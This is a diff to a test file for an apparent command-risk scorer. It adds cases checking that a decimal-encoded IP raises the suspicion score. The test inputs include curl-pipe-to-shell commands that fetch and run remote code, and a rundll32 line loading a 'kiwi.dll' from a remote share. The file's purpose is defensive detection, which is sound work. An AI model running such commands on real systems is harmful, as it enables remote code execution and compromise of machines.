@@ -12,6 +12,9 @@ describe("what comes from another machine", () => {
     expect(bare.score).toBeGreaterThan(named.score);
     expect(bare.text).toContain("bare IP address");
     expect(verdict("curl -s 203.0.113.7:8080 | sh", "linux").score).toBe(bare.score);
+    expect(verdict("curl -s 3405803783/a | sh", "linux").score).toBeGreaterThan(bare.score);
+    const share = (server: string) => verdict(`rundll32 \\\\${server}\\s\\kiwi.dll,Go`);
+    expect(share("3405803783").score).toBeGreaterThanOrEqual(share("203.0.113.7").score);
   });
 
   it("takes the drives of a remote session for those of a machine outside", () => {
